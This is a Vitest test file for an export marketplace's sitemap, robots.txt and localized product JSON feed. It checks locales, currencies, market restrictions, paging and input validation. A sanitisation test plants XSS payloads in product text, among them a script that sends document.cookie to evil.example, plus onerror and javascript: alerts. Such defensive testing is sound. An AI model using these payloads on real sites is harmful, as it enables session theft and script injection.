import { afterAll, beforeAll, describe, expect, test } from 'vitest'

import { visibleProduct } from '~/modules/catalog/catalog.server'
import { sitemap } from '~/modules/catalog/feeds.server'
import { convert } from '~/modules/checkout/money'
import { currentRates } from '~/modules/checkout/pricing.server'
import { loader as productFeedLoader } from '~/routes/feeds.products[.]json'
import { loader as robotsLoader } from '~/routes/robots[.]txt'
import { loader as sitemapLoader } from '~/routes/sitemap[.]xml'
import { getDb } from '~/utils/db.server'
import { locales } from '~/utils/locales'

const origin = 'https://pavilion.example.kz'
const previousPublicUrl = process.env.PUBLIC_URL
beforeAll(() => {
  process.env.PUBLIC_URL = `${origin}/`
})
afterAll(() => {
  if (previousPublicUrl === undefined) delete process.env.PUBLIC_URL
  else process.env.PUBLIC_URL = previousPublicUrl
})

const args = (url: string) => ({ request: new Request(`http://localhost${url}`), params: {}, context: {} })

// ---------------------------------------------------------------- a small XML reader

type XmlElement = { name: string; attributes: Record<string, string>; children: XmlElement[]; text: string }

const entities: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }

function decode(text: string) {
  if (/&(?!(?:amp|lt|gt|quot|apos);)/.test(text)) throw new Error(`an unescaped & in ${JSON.stringify(text)}`)
  return text.replace(/&(amp|lt|gt|quot|apos);/g, (_, name: string) => entities[name])
}

/** Parses the XML this app writes (declaration, elements, attributes, text) and throws unless well-formed. */
function parseXml(xml: string): XmlElement {
  const declaration = '<?xml version="1.0" encoding="UTF-8"?>'
  if (!xml.startsWith(declaration)) throw new Error('no XML declaration')
  const tag = /<(\/?)([A-Za-z_][\w:.-]*)((?:\s+[A-Za-z_][\w:.-]*="[^"<]*")*)\s*(\/?)>/y
  const attribute = /([A-Za-z_][\w:.-]*)="([^"<]*)"/g
  const stack: XmlElement[] = []
  let root: XmlElement | null = null
  let position = declaration.length
  while (position < xml.length) {
    const next = xml.indexOf('<', position)
    const text = xml.slice(position, next === -1 ? xml.length : next)
    if (text.includes('>')) throw new Error(`a stray > in ${JSON.stringify(text)}`)
    if (stack.length > 0) stack[stack.length - 1].text += decode(text)
    else if (text.trim()) throw new Error(`text outside the root element: ${JSON.stringify(text)}`)
    if (next === -1) break
    tag.lastIndex = next
    const match = tag.exec(xml)
    if (!match) throw new Error(`malformed tag at ${next}: ${xml.slice(next, next + 80)}`)
    const [, closing, name, attributeText, selfClosing] = match
    if (closing) {
      const open = stack.pop()
      if (open?.name !== name) throw new Error(`</${name}> closes <${open?.name}>`)
    } else {
      const element: XmlElement = { name, attributes: {}, children: [], text: '' }
      for (const [, key, value] of attributeText.matchAll(attribute)) {
        if (key in element.attributes) throw new Error(`attribute ${key} twice on <${name}>`)
        element.attributes[key] = decode(value)
      }
      if (stack.length > 0) stack[stack.length - 1].children.push(element)
      else if (root) throw new Error('a second root element')
      else root = element
      if (!selfClosing) stack.push(element)
    }
    position = tag.lastIndex
  }
  if (stack.length > 0) throw new Error(`<${stack[stack.length - 1].name}> is never closed`)
  if (!root) throw new Error('no root element')
  return root
}

const child = (element: XmlElement, name: string) => element.children.filter((c) => c.name === name)

function sitemapUrls(root: XmlElement) {
  expect(root.name).toBe('urlset')
  expect(root.attributes).toEqual({
    xmlns: 'http://www.sitemaps.org/schemas/sitemap/0.9',
    'xmlns:xhtml': 'http://www.w3.org/1999/xhtml',
  })
  return child(root, 'url').map((url) => ({
    loc: child(url, 'loc')[0].text,
    lastmod: child(url, 'lastmod')[0]?.text ?? null,
    alternates: Object.fromEntries(child(url, 'xhtml:link').map((link) => [link.attributes.hreflang, link.attributes.href])),
  }))
}

async function visibleCounts() {
  const db = getDb()
  const [products, exporters] = await Promise.all([
    db.product.count({ where: visibleProduct }),
    db.exporter.count({ where: { status: 'verified' } }),
  ])
  return { products, exporters }
}

// ---------------------------------------------------------------- sitemap

describe('/sitemap.xml', () => {
  test('lists every public page in every locale with its hreflang alternates', async () => {
    const response = await sitemapLoader(args('/sitemap.xml'))
    expect(response.status).toBe(200)
    expect(response.headers.get('Content-Type')).toBe('application/xml; charset=utf-8')
    expect(response.headers.get('Cache-Control')).toMatch(/^public,.*stale-while-revalidate=\d+/)
    const urls = sitemapUrls(parseXml(await response.text()))

    const { products, exporters } = await visibleCounts()
    const tours = await getDb().tourRoute.findMany({ where: { status: 'published' }, select: { slug: true } })
    expect(tours.length).toBeGreaterThan(0)
    expect(urls).toHaveLength(5 * (6 + 180 + products + exporters + tours.length))
    expect(new Set(urls.map((url) => url.loc)).size).toBe(urls.length)

    for (const url of urls) {
      expect(Object.keys(url.alternates).sort()).toEqual(['en', 'kk', 'ru', 'x-default', 'zh-Hans', 'zh-Hant'])
      const locale = url.loc.slice(origin.length + 1).split('/')[0]
      expect(locales).toContain(locale)
      expect(url.alternates[{ 'zh-hans': 'zh-Hans', 'zh-hant': 'zh-Hant' }[locale] ?? locale]).toBe(url.loc)
      expect(url.alternates['x-default']).toBe(url.alternates.en)
    }
    const locs = new Set(urls.map((url) => url.loc))
    for (const locale of locales) {
      expect(locs).toContain(`${origin}/${locale}`)
      expect(locs).toContain(`${origin}/${locale}/catalog`)
      expect(locs).toContain(`${origin}/${locale}/tours`)
      expect(locs).toContain(`${origin}/${locale}/corridor`)
      expect(locs).toContain(`${origin}/${locale}/progress`)
      for (const tour of tours) expect(locs).toContain(`${origin}/${locale}/tours/${tour.slug}`)
    }
    expect(urls.filter((url) => url.loc.includes('/catalog/'))).toHaveLength(5 * 180)

    const product = await getDb().product.findFirstOrThrow({ where: visibleProduct, select: { slug: true, updatedAt: true } })
    const entry = urls.find((url) => url.loc === `${origin}/zh-hant/products/${product.slug}`)
    expect(entry?.lastmod).toBe(product.updatedAt.toISOString())
  })

  test('leaves out drafts, unverified exporters and their products', async () => {
    const db = getDb()
    const hidden = await db.product.findMany({ where: { exporter: { status: { not: 'verified' } } }, select: { slug: true } })
    const unverified = await db.exporter.findMany({ where: { status: { not: 'verified' } }, select: { slug: true } })
    expect(hidden.length).toBeGreaterThan(0)
    expect(unverified.length).toBeGreaterThan(0)
    const draft = await db.product.findFirstOrThrow({ where: visibleProduct, orderBy: { id: 'desc' }, select: { slug: true } })
    await db.product.update({ where: { slug: draft.slug }, data: { status: 'draft' } })

    const xml = (await sitemap({ origin, part: null }))!
    const locs = new Set(sitemapUrls(parseXml(xml)).map((url) => url.loc))
    for (const { slug } of [...hidden, draft]) expect(locs).not.toContain(`${origin}/en/products/${slug}`)
    for (const { slug } of unverified) expect(locs).not.toContain(`${origin}/en/exporters/${slug}`)
    await db.product.update({ where: { slug: draft.slug }, data: { status: 'published' } })
  })

  test('escapes what it writes', async () => {
    const db = getDb()
    const exporter = await db.exporter.findFirstOrThrow({ where: { status: 'verified' }, select: { id: true, slug: true } })
    await db.exporter.update({ where: { id: exporter.id }, data: { slug: "o'neill-&-sons" } })
    const xml = (await sitemap({ origin, part: null }))!
    expect(xml).toContain(`<loc>${origin}/kk/exporters/o&apos;neill-%26-sons</loc>`)
    const locs = sitemapUrls(parseXml(xml)).map((url) => url.loc)
    expect(locs).toContain(`${origin}/kk/exporters/o'neill-%26-sons`)
    await db.exporter.update({ where: { id: exporter.id }, data: { slug: exporter.slug } })
  })

  test('becomes an index of parts above the part size, and the parts cover every URL once', async () => {
    const whole = sitemapUrls(parseXml((await sitemap({ origin, part: null }))!)).map((url) => url.loc)
    const partSize = 250
    const index = parseXml((await sitemap({ origin, part: null, partSize }))!)
    expect(index.name).toBe('sitemapindex')
    const partUrls = child(index, 'sitemap').map((entry) => child(entry, 'loc')[0].text)
    expect(partUrls).toHaveLength(Math.ceil(whole.length / partSize))
    expect(partUrls[0]).toBe(`${origin}/sitemap.xml?part=1`)

    const fromParts: string[] = []
    for (const [index, url] of partUrls.entries()) {
      expect(url).toBe(`${origin}/sitemap.xml?part=${index + 1}`)
      const part = sitemapUrls(parseXml((await sitemap({ origin, part: index + 1, partSize }))!))
      expect(part.length).toBeGreaterThan(0)
      expect(part.length).toBeLessThanOrEqual(partSize)
      fromParts.push(...part.map((entry) => entry.loc))
    }
    expect(fromParts).toEqual(whole)
    expect(await sitemap({ origin, part: partUrls.length + 1, partSize })).toBeNull()
  })

  test('a part that does not exist is a 404', async () => {
    for (const part of ['1', '0', '-1', 'abc', '1e3', '99999999999']) {
      const response = await sitemapLoader(args(`/sitemap.xml?part=${part}`))
      expect(response.status).toBe(404)
    }
  })
})

// ---------------------------------------------------------------- robots.txt

/** Google's reading of robots.txt for one path: the longest matching rule wins, Allow on a tie. */
function allowed(robots: string, path: string) {
  const rules = robots
    .split('\n')
    .map((line) => /^(Allow|Disallow):\s*(\S*)$/.exec(line.trim()))
    .filter((match) => match !== null)
    .map(([, kind, pattern]) => ({
      allow: kind === 'Allow',
      length: pattern.length,
      regex: new RegExp(`^${pattern.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*')}`),
    }))
    .filter((rule) => rule.regex.test(path))
    .sort((a, b) => b.length - a.length || Number(b.allow) - Number(a.allow))
  return rules[0]?.allow ?? true
}

describe('/robots.txt', () => {
  test('opens the storefront, closes accounts and back offices, and names the sitemap', async () => {
    const response = await robotsLoader()
    expect(response.headers.get('Content-Type')).toBe('text/plain; charset=utf-8')
    expect(response.headers.get('Cache-Control')).toContain('stale-while-revalidate')
    const robots = await response.text()
    expect(robots).toMatch(/^User-agent: \*$/m)
    expect(robots).toMatch(new RegExp(`^Sitemap: ${origin}/sitemap\\.xml$`, 'm'))
    for (const path of [
      '/',
      '/en',
      '/zh-hans/catalog/natural-honey',
      '/zh-hant/products/altai-honey-bulk',
      '/kk/exporters/naryn-honey',
      '/sitemap.xml',
    ]) {
      expect(allowed(robots, path), path).toBe(true)
    }
    for (const path of [
      '/en/exporter/products',
      '/ru/admin/exporters',
      '/zh-hans/cart',
      '/en/checkout',
      '/en/orders/42',
      '/webhooks/stripe',
    ]) {
      expect(allowed(robots, path), path).toBe(false)
    }
  })
})

// ---------------------------------------------------------------- product feed

type Feed = {
  locale: string
  market: string
  currency: string
  generatedAt: string
  page: number
  pageSize: number
  total: number
  next: string | null
  items: {
    id: string
    url: string
    title: string
    description: string
    language: string
    hsCode: string
    category: { slug: string; name: string }
    exporter: { slug: string; name: string; verified: boolean }
    price: { amountMinor: number; currency: string; formatted: string }
    priceTiers: { minQuantity: number; amountMinor: number; currency: string; formatted: string }[]
    availability: string
    images: string[]
    marketAccess: { verdict: string; reason: string | null }
  }[]
}

async function feed(query: string) {
  const response = await productFeedLoader(args(`/feeds/products.json${query}`))
  return { response, body: (await response.json()) as Feed }
}

describe('/feeds/products.json', () => {
  test('in Simplified Chinese for the mainland: every visible product, in yuan', async () => {
    const { response, body } = await feed('?locale=zh-hans&market=CN&pageSize=1000')
    expect(response.status).toBe(200)
    expect(response.headers.get('Content-Type')).toContain('application/json')
    expect(response.headers.get('Cache-Control')).toMatch(/^public,.*stale-while-revalidate=\d+/)
    const { products } = await visibleCounts()
    expect(body).toMatchObject({
      locale: 'zh-hans',
      market: 'CN',
      currency: 'CNY',
      page: 1,
      pageSize: 1000,
      total: products,
      next: null,
    })
    expect(Number.isNaN(Date.parse(body.generatedAt))).toBe(false)
    expect(body.items).toHaveLength(products)

    const db = getDb()
    const hidden = await db.product.findMany({ where: { NOT: visibleProduct }, select: { slug: true } })
    const ids = new Set(body.items.map((item) => item.id))
    for (const { slug } of hidden) expect(ids).not.toContain(slug)

    const rates = await currentRates()
    const rows = await db.product.findMany({
      where: visibleProduct,
      select: { slug: true, basePriceMinor: true, baseCurrency: true, stock: true },
    })
    const bySlug = new Map(rows.map((row) => [row.slug, row]))
    for (const item of body.items) {
      const row = bySlug.get(item.id)!
      expect(item.price).toMatchObject(convert({ amountMinor: row.basePriceMinor, currency: row.baseCurrency }, 'CNY', rates))
      expect(item.price.formatted).toMatch(/¥/)
      for (const tier of item.priceTiers) expect(tier.currency).toBe('CNY')
      expect(item.availability).toBe(row.stock > 0 ? 'in_stock' : 'out_of_stock')
      expect(item.url).toBe(`${origin}/zh-hans/products/${item.id}`)
      expect(item.exporter.verified).toBe(true)
      expect(item.title.length).toBeGreaterThan(0)
    }
  })

  test('in Traditional Chinese for Hong Kong: dollars, and Simplified text where no Traditional exists', async () => {
    const { body } = await feed('?locale=zh-hant&market=HK&pageSize=1000')
    expect(body.currency).toBe('HKD')
    expect(body.items.every((item) => item.price.currency === 'HKD')).toBe(true)

    const untranslated = await getDb().product.findMany({
      where: { ...visibleProduct, translations: { none: { locale: 'zh-hant' }, some: { locale: 'zh-hans' } } },
      select: { slug: true, translations: { where: { locale: 'zh-hans' }, select: { name: true } } },
    })
    expect(untranslated.length).toBeGreaterThan(0)
    const bySlug = new Map(body.items.map((item) => [item.id, item]))
    for (const product of untranslated) {
      expect(bySlug.get(product.slug)).toMatchObject({ language: 'zh-hans', title: product.translations[0].name })
    }
    const translated = body.items.filter((item) => !untranslated.some((product) => product.slug === item.id))
    expect(translated.every((item) => item.language === 'zh-hant')).toBe(true)
  })

  test('beef is restricted for the mainland, with the reason', async () => {
    const [cn, hk] = await Promise.all([feed('?locale=en&market=CN&pageSize=1000'), feed('?locale=en&market=HK&pageSize=1000')])
    const beef = cn.body.items.filter((item) => /^020[12]/.test(item.hsCode))
    expect(beef.length).toBeGreaterThan(0)
    for (const item of beef) {
      expect(item.marketAccess.verdict).toBe('restricted')
      expect(item.marketAccess.reason).toMatch(/beef/i)
    }
    const honey = cn.body.items.find((item) => item.hsCode.startsWith('0409'))!
    expect(honey.marketAccess.verdict).not.toBe('restricted')
    const beefInHongKong = hk.body.items.find((item) => item.id === beef[0].id)!
    expect(beefInHongKong.price.currency).toBe('HKD')
  })

  test('defaults to English and the international market, and pages with absolute next links', async () => {
    const first = await feed('')
    expect(first.body).toMatchObject({ locale: 'en', market: 'INTL', currency: 'USD', page: 1, pageSize: 500 })

    const seen: string[] = []
    let next: string | null = `${origin}/feeds/products.json?pageSize=100`
    let pages = 0
    while (next) {
      expect(next.startsWith(`${origin}/feeds/products.json?`)).toBe(true)
      const url: URL = new URL(next)
      const { body }: { body: Feed } = await feed(url.search)
      expect(body.items.length).toBeLessThanOrEqual(100)
      seen.push(...body.items.map((item) => item.id))
      next = body.next
      pages++
    }
    expect(pages).toBe(Math.ceil(first.body.total / 100))
    expect(new Set(seen).size).toBe(first.body.total)
    expect(seen).toHaveLength(first.body.total)
  })

  test('images are absolute URLs of the largest WebP variant', async () => {
    const db = getDb()
    const product = await db.product.findFirstOrThrow({
      where: visibleProduct,
      orderBy: { id: 'asc' },
      select: { id: true, slug: true },
    })
    await db.productImage.create({
      data: { productId: product.id, position: 0, storageKey: 'products/test/feed', widths: '320,640', width: 640, height: 480 },
    })
    const { body } = await feed('?pageSize=1')
    expect(body.items[0]).toMatchObject({ id: product.slug, images: [`${origin}/uploads/products/test/feed-640.webp`] })
  })

  test.each([
    { query: '?locale=fr', name: '?locale=fr', code: 'invalid_locale' },
    { query: '?locale=ZH-HANS', name: '?locale=ZH-HANS', code: 'invalid_locale' },
    { query: '?locale=en&locale=ru', name: '?locale=en&locale=ru', code: 'invalid_locale' },
    { query: '?market=US', name: '?market=US', code: 'invalid_market' },
    { query: '?market=cn', name: '?market=cn', code: 'invalid_market' },
    { query: '?page=0', name: '?page=0', code: 'invalid_page' },
    { query: '?page=-1', name: '?page=-1', code: 'invalid_page' },
    { query: '?page=1.5', name: '?page=1.5', code: 'invalid_page' },
    { query: '?page=abc', name: '?page=abc', code: 'invalid_page' },
    { query: '?page=', name: '?page=', code: 'invalid_page' },
    { query: '?page=99999999999999999999', name: '?page=99999999999999999999', code: 'invalid_page' },
    { query: '?pageSize=1001', name: '?pageSize=1001', code: 'invalid_page_size' },
    { query: '?pageSize=0', name: '?pageSize=0', code: 'invalid_page_size' },
    { query: `?locale=${'x'.repeat(5000)}`, name: 'a 5,000-character locale', code: 'invalid_locale' },
  ])('$name is a 400 with $code', async ({ query, code }) => {
    const { response, body } = await feed(query)
    expect(response.status).toBe(400)
    expect(response.headers.get('Content-Type')).toContain('application/json')
    expect(body).toEqual({ error: { code, message: expect.any(String) } })
  })

  test('exporter text is plain text: tags, scripts and character references never reach a feed reader as HTML', async () => {
    const db = getDb()
    const product = await db.product.findFirstOrThrow({
      where: visibleProduct,
      orderBy: { id: 'asc' },
      include: { exporter: true },
    })
    await db.productTranslation.update({
      where: { productId_locale: { productId: product.id, locale: 'en' } },
      data: {
        name: '<b>Altai</b> honey &amp; comb <script>alert(1)</script>',
        description: [
          '<p>Raw <i>mountain</i> honey.<br>Harvested in July &ndash; 1,200 m.</p>',
          '<script>document.location="https://evil.example/?"+document.cookie</script>',
          '<img src=x onerror=alert(2)>&lt;svg onload=alert(3)&gt;<!-- hidden -->',
          'Pb < 0.001 %, moisture <18 %, HMF > 0',
          '<a href="javascript:alert(4)">more</a> <img src=x onerror=alert(5)',
        ].join('\n'),
      },
    })
    await db.exporterTranslation.updateMany({
      where: { exporterId: product.exporterId, locale: 'en' },
      data: { legalName: '<b>Naryn</b> &quot;Honey&quot; LLP' },
    })
    const response = await productFeedLoader(args('/feeds/products.json?locale=en&pageSize=1000'))
    const raw = await response.text()
    // no markup anywhere in the bytes: "<", ">" and "&" are JSON escapes, the values unchanged
    expect(raw).not.toMatch(/[<>&]/)
    const item = (JSON.parse(raw) as Feed).items.find((candidate) => candidate.id === product.slug)!
    expect(item.title).toBe('Altai honey & comb')
    expect(item.description).toBe(
      [
        'Raw mountain honey.',
        'Harvested in July – 1,200 m.',
        '',
        'Pb < 0.001 %, moisture <18 %, HMF > 0',
        'more img src=x onerror=alert(5)',
      ].join('\n'),
    )
    expect(item.exporter.name).toBe('Naryn "Honey" LLP')
    for (const text of [item.title, item.description, item.exporter.name]) expect(text).not.toMatch(/<[a-z/!?]/i)
  })

  test('a page past the last is a 404', async () => {
    const { response, body } = await feed('?page=9999')
    expect(response.status).toBe(404)
    expect(body).toMatchObject({ error: { code: 'page_not_found' } })
  })
})
